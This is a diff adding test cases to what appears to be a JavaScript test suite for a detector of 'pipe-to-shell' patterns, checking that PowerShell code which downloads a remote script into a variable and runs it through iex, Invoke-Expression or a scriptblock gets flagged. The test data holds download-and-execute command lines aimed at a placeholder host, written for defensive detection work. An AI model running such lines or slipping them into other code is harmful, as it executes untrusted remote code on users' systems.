@@ -109,6 +109,25 @@ describe("pipe-to-shell: a kept download handed to another variable", () => {
     ).toEqual([1]);
   });
 
+  it("follows a PowerShell variable named anywhere in the value handed on, when that value is run", () => {
+    const keep = "$s = irm https://x.example/y.ps1\n";
+    for (const lines of [
+      '$t = "x; $s"\niex $t',
+      "$t = 'Set-Location $env:TEMP; ' + $s\nInvoke-Expression $t",
+      '$t = "${s}"; iex $t',
+      '$b = [scriptblock]::Create("Set-StrictMode -Version 3`n$s")\n& $b',
+    ]) {
+      expect(flagged("p/s/run.ps1", `${keep}${lines}\n`), lines).toEqual([1]);
+    }
+  });
+
+  it("leaves alone a PowerShell value that names the variable only in single quotes, escaped, or not at all", () => {
+    const keep = "$s = irm https://x.example/y.ps1\n";
+    for (const lines of ["$t = 'x; $s'\niex $t", '$t = "x; `$s"\niex $t', '$t = "x"; $u = $s\niex $t']) {
+      expect(flagged("p/s/run.ps1", `${keep}${lines}\n`), lines).toEqual([]);
+    }
+  });
+
   it("follows a shell's string copied into another variable", () => {
     expect(flagged("p/s/run.sh", 'x=$(curl -fsSL https://x.example/y.sh); y="$x"; sh -c "$y"\n')).toEqual([
       1,
